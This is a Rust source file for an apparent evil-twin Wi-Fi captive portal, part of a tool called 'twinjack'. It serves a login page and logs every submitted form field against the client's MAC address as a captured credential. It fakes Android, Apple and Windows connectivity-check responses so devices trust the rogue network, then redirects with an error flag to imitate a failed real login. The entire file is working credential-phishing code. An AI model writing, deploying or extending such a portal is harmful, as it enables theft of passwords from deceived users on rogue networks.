use std::collections::BTreeMap;
use std::net::SocketAddr;
use std::sync::Arc;

use anyhow::{Context, Result};
use axum::{
    extract::{ConnectInfo, Form, State},
    http::StatusCode,
    response::{Html, IntoResponse, Redirect, Response},
    routing::get,
    Router,
};
use tower::limit::ConcurrencyLimitLayer;
use tower::ServiceBuilder;
use tower_http::limit::RequestBodyLimitLayer;
use tower_http::timeout::TimeoutLayer;
use tracing::{debug, warn};

use twinjack_core::runner::ClientResolver;
use twinjack_core::store::CredentialLog;

use crate::PortalConfig;

#[derive(Clone)]
pub struct CaptureState {
    log: Arc<CredentialLog>,
    resolver: Arc<dyn ClientResolver>,
    page: Arc<String>,
}

impl CaptureState {
    pub fn new(
        log: Arc<CredentialLog>,
        resolver: Arc<dyn ClientResolver>,
        page: String,
    ) -> Self {
        Self {
            log,
            resolver,
            page: Arc::new(page),
        }
    }
}

pub fn build_router(cfg: &PortalConfig, state: CaptureState) -> Router {
    let middleware = ServiceBuilder::new()
        .layer(RequestBodyLimitLayer::new(cfg.max_body_bytes))
        .layer(TimeoutLayer::new(cfg.request_timeout))
        .layer(ConcurrencyLimitLayer::new(cfg.max_concurrency));

    Router::new()
        .route("/", get(get_index))
        .route("/login", axum::routing::post(post_capture))
        // Connectivity probes: answer success so client devices believe
        // the uplink works and proceed to the login flow.
        .route("/generate_204", get(no_content))
        .route("/gen_204", get(no_content))
        .route("/hotspot-detect.html", get(apple_success))
        .route("/ncsi.txt", get(ncsi))
        .route("/connecttest.txt", get(connecttest))
        .route("/redirect", get(no_content))
        .fallback(captive_redirect)
        .with_state(state)
        .layer(middleware)
}

pub async fn run_server(
    listener: std::net::TcpListener,
    app: Router,
    shutdown: tokio::sync::oneshot::Receiver<()>,
) -> Result<()> {
    let listener = tokio::net::TcpListener::from_std(listener)
        .context("converting capture listener to tokio listener")?;

    axum::serve(
        listener,
        app.into_make_service_with_connect_info::<SocketAddr>(),
    )
    .with_graceful_shutdown(async {
        let _ = shutdown.await;
    })
    .await
    .context("running capture server")?;

    Ok(())
}

async fn get_index(State(state): State<CaptureState>) -> Html<String> {
    Html(state.page.as_str().to_string())
}

async fn post_capture(
    State(state): State<CaptureState>,
    ConnectInfo(addr): ConnectInfo<SocketAddr>,
    Form(payload): Form<BTreeMap<String, String>>,
) -> Response {
    // Normalize: keep only non-empty fields.
    let fields: BTreeMap<String, String> = payload
        .into_iter()
        .filter(|(_, value)| !value.trim().is_empty())
        .collect();
    if fields.is_empty() {
        debug!(client = %addr.ip(), "submission with no usable fields");
        return (StatusCode::BAD_REQUEST, "missing credentials").into_response();
    }

    let client_mac = state
        .resolver
        .mac_for_ip(addr.ip())
        .unwrap_or_else(|| addr.ip().to_string());

    match state.log.append(client_mac, fields).await {
        Ok(record) => {
            debug!(seq = record.seq, client = %record.client_mac, "credential submission captured");
        }
        Err(err) => {
            warn!(client = %addr.ip(), error = %err, "credential log append failed");
        }
    }

    // Send the client back to the page with an error hint, like a failed
    // real login would.
    Redirect::to("/?err=1").into_response()
}

async fn no_content() -> StatusCode {
    StatusCode::NO_CONTENT
}

async fn apple_success() -> Html<&'static str> {
    Html("<HTML><HEAD><TITLE>Success</TITLE></HEAD><BODY>Success</BODY></HTML>")
}

async fn ncsi() -> &'static str {
    "Microsoft NCSI"
}

async fn connecttest() -> &'static str {
    "Microsoft Connect Test"
}

async fn captive_redirect() -> Redirect {
    Redirect::temporary("/")
}
